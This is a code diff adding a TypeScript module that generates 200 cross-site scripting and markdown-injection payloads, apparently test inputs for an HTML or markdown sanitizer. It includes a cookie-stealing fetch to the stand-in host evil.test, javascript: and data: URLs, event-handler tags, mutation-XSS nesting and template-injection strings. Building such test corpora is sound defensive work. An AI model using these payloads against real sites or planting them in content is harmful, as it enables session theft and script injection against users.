@@ -1,0 +1,66 @@
+/** Texts that would run a script, or lead astray, wherever they were taken for more than text: 200 of them. */
+
+const scripts = [
+  'alert(1)',
+  "fetch('https://evil.test/'+document.cookie)",
+  'top.location="https://evil.test"',
+  'eval(name)',
+]
+
+const html = (code: string) => [
+  `<script>${code}</script>`,
+  `<ScRiPt >${code}</sCrIpT>`,
+  `"><script>${code}</script>`,
+  `'><img src=x onerror=${code}>`,
+  `<img src=x onerror="${code}">`,
+  `<img/src/onerror=${code}>`,
+  `<svg onload=${code}>`,
+  `<svg><script>${code}</script></svg>`,
+  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
+  `<math><mtext></mtext><mglyph><style><img src=x onerror=${code}></style></mglyph></math>`,
+  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
+  `<iframe src="javascript:${code}"></iframe>`,
+  `<body onload=${code}>`,
+  `<details open ontoggle=${code}>`,
+  `<video><source onerror=${code}></video>`,
+  `<a href="javascript:${code}">here</a>`,
+  `<a href=" &#14; javascript:${code}">here</a>`,
+  `<form action="javascript:${code}"><button>go</button></form>`,
+  `<object data="javascript:${code}"></object>`,
+  `<embed src="data:text/html,<script>${code}</script>">`,
+  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${code})}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
+  `<base href="javascript:${code}//">`,
+  `<style>@import 'javascript:${code}';</style>`,
+  `<template><script>${code}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  `<!--><img src=x onerror=${code}>-->`,
+  `<![CDATA[<script>${code}</script>]]>`,
+  `</textarea><script>${code}</script>`,
+  `</title><script>${code}</script>`,
+  `<input autofocus onfocus=${code}>`,
+  `<marquee onstart=${code}>`,
+]
+
+const markdown = (code: string) => [
+  `[here](javascript:${code})`,
+  `[here](JaVaScRiPt:${code})`,
+  `[here](&#106;avascript:${code})`,
+  `[here](<javascript:${code}>)`,
+  `[here](data:text/html;base64,PHNjcmlwdD4=)`,
+  `[here](vbscript:${code})`,
+  `[here](//evil.test/${encodeURIComponent(code)})`,
+  `[here](http://evil.test)`,
+  `![x](x"onerror="${code})`,
+  `![${code}](javascript:${code})`,
+  `<javascript:${code}>`,
+  `[here]\n\n[here]: javascript:${code}`,
+  `[<img src=x onerror=${code}>](https://evil.test)`,
+  `[a](https://user:pass@evil.test)`,
+  `**<script>${code}</script>**`,
+  `\`\`\`\n<script>${code}</script>\n\`\`\``,
+  `{{constructor.constructor('${code}')()}}`,
+  `\${${code}}`,
+]
+
+export const payloads: readonly string[] = scripts.flatMap((code) => [...html(code), ...markdown(code)])
